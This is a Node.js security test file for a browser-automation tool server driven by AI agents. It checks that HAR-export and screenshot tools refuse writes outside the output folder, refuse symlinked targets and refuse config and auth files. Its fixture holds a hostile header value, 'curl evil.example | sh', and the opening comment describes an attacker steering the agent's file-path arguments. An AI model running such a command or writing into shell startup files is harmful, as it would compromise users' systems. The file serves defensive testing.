// Issue 13 item 4, from an attacker's side: a tool argument naming a file to write
// (browser_export_har / browser_screenshot_tab `filePath`) is chosen by whoever steers the
// agent, and the HAR's content by the page.  Against the real binary with a WebSocket
// client playing the extension: a path outside the output folder (a ~/.bashrc stand-in) is
// refused, a symlink at the target is not followed, an existing file is kept unless the
// call says overwrite: true, config.json and auth.json are refused even when the config
// folder is in additionalAllowedDirectories, and a relative path lands in the output folder
// with mode 0600.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync, symlinkSync, statSync, lstatSync, existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer } from './support/server.mjs';
import { ExtensionClient } from './support/extension_client.mjs';

// A page-controlled header that would run in bash if the HAR landed in ~/.bashrc.
const hostileRequests = [
  {
    url: 'https://evil.example/collect?x=1',
    method: 'GET',
    status: 200,
    timestamp: 1700000000000,
    requestHeaders: { 'X-Payload': '\ncurl evil.example | sh\n' },
  },
];

// The smallest bytes the server accepts as a PNG: signature + IHDR with width and height.
function tinyPng() {
  const b = Buffer.alloc(33);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(b, 0);
  b.writeUInt32BE(13, 8);
  b.write('IHDR', 12, 'latin1');
  b.writeUInt32BE(4, 16);
  b.writeUInt32BE(3, 20);
  return b;
}

const text = (r) => r.body.content?.map((c) => c.text ?? '').join('\n') ?? JSON.stringify(r.body);

describe('security: tool file writes stay in the output folder', () => {
  let s;
  let ext;
  let home;
  let configDir;
  let output;
  const originalBashrc = 'echo original bashrc\n';

  before(async () => {
    home = mkdtempSync(join(tmpdir(), 'opentabs-home-'));
    configDir = mkdtempSync(join(tmpdir(), 'opentabs-sec-files-'));
    output = join(configDir, 'output');
    writeFileSync(join(home, '.bashrc'), originalBashrc);
    s = await startServer({
      configDir,
      // The config folder itself is listed as allowed: its own files must still be refused.
      config: { permissions: { browser: { permission: 'auto' } }, additionalAllowedDirectories: [configDir] },
      env: { HOME: home },
    });
    ext = await new ExtensionClient(s, { connectionId: 'sec-files' }).connect();
    ext.on('browser.getNetworkRequests', () => ({ requests: hostileRequests }));
    ext.on('browser.screenshotTab', () => ({ image: tinyPng().toString('base64') }));
  });
  after(async () => {
    await ext?.close();
    await s?.stop();
    rmSync(home, { recursive: true, force: true });
    rmSync(configDir, { recursive: true, force: true });
  });

  test('a path outside the output folder (~/.bashrc) is refused and the file is untouched', async () => {
    const target = join(home, '.bashrc');
    for (const args of [{ filePath: target }, { filePath: target, overwrite: true }]) {
      const r = await s.callTool('browser_export_har', { tabId: 1, ...args });
      assert.equal(r.body.isError, true, text(r));
      assert.match(text(r), /outside the folders tools may write to/);
      assert.ok(text(r).includes(target), `the error names the path: ${text(r)}`);
    }
    const shot = await s.callTool('browser_screenshot_tab', { tabId: 1, filePath: join(home, '.profile') });
    assert.equal(shot.body.isError, true, text(shot));
    assert.equal(existsSync(join(home, '.profile')), false);
    const escape = await s.callTool('browser_export_har', { tabId: 1, filePath: '../../.bashrc', overwrite: true });
    assert.equal(escape.body.isError, true, text(escape));
    assert.match(text(escape), /'\.\.'/);
    assert.equal(readFileSync(target, 'utf8'), originalBashrc);
  });

  test('a symlink at the target is not followed, even with overwrite: true', async () => {
    mkdirSync(output, { recursive: true });
    symlinkSync(join(home, '.bashrc'), join(output, 'link.har'));
    for (const args of [{ filePath: join(output, 'link.har') }, { filePath: 'link.har', overwrite: true }]) {
      const r = await s.callTool('browser_export_har', { tabId: 1, ...args });
      assert.equal(r.body.isError, true, text(r));
      assert.match(text(r), /symbolic link/);
    }
    assert.ok(lstatSync(join(output, 'link.har')).isSymbolicLink());
    // A linked folder below the output folder is not walked through either.
    symlinkSync(home, join(output, 'homelink'));
    const below = await s.callTool('browser_export_har', { tabId: 1, filePath: 'homelink/.bashrc', overwrite: true });
    assert.equal(below.body.isError, true, text(below));
    assert.match(text(below), /symbolic link/);
    assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), originalBashrc);
  });

  test('an existing file is not overwritten without overwrite: true', async () => {
    const first = await s.callTool('browser_export_har', { tabId: 1, filePath: join(output, 'keep.har') });
    assert.equal(first.status, 200, text(first));
    writeFileSync(join(output, 'keep.har'), 'user edits');
    const second = await s.callTool('browser_export_har', { tabId: 1, filePath: join(output, 'keep.har') });
    assert.equal(second.body.isError, true, text(second));
    assert.match(text(second), /already exists; pass overwrite: true/);
    assert.equal(readFileSync(join(output, 'keep.har'), 'utf8'), 'user edits');
    const third = await s.callTool('browser_export_har', { tabId: 1, filePath: 'keep.har', overwrite: true });
    assert.equal(third.status, 200, text(third));
    assert.equal(JSON.parse(readFileSync(join(output, 'keep.har'), 'utf8')).log.version, '1.2');
  });

  test('config.json and auth.json are refused although the config folder is an allowed directory', async () => {
    const configBefore = readFileSync(join(configDir, 'config.json'), 'utf8');
    const authBefore = readFileSync(join(configDir, 'extension', 'auth.json'), 'utf8');
    for (const victim of [join(configDir, 'config.json'), join(configDir, 'extension', 'auth.json'), join(configDir, 'audit.log')]) {
      for (const overwrite of [undefined, true]) {
        const r = await s.callTool('browser_export_har', { tabId: 1, filePath: victim, ...(overwrite ? { overwrite } : {}) });
        assert.equal(r.body.isError, true, text(r));
        assert.match(text(r), /inside the opentabs config folder/);
        assert.ok(text(r).includes(victim), `the error names the path: ${text(r)}`);
      }
    }
    assert.equal(readFileSync(join(configDir, 'config.json'), 'utf8'), configBefore);
    assert.equal(readFileSync(join(configDir, 'extension', 'auth.json'), 'utf8'), authBefore);
    // The server still works with its secret and config.
    const health = await s.fetch('/health');
    assert.equal(health.status, 200);
  });

  test('a relative path lands in the output folder with mode 0600', async () => {
    const shot = await s.callTool('browser_screenshot_tab', { tabId: 1, filePath: 'shots/tab1.png' });
    assert.equal(shot.status, 200, text(shot));
    const saved = JSON.parse(shot.body.content[0].text);
    assert.equal(saved.savedTo, join(output, 'shots', 'tab1.png'));
    assert.equal(saved.width, 4);
    assert.deepEqual(readFileSync(saved.savedTo), tinyPng());
    assert.equal(statSync(saved.savedTo).mode & 0o777, 0o600);
    const har = await s.callTool('browser_export_har', { tabId: 1, filePath: 'traffic.har' });
    assert.equal(har.status, 200, text(har));
    const harSaved = JSON.parse(har.body.content[0].text);
    assert.equal(harSaved.savedTo, join(output, 'traffic.har'));
    assert.equal(statSync(harSaved.savedTo).mode & 0o777, 0o600);
    // Folders the server creates on the way are private too.
    assert.equal(statSync(join(output, 'shots')).mode & 0o777, 0o700);
  });
});
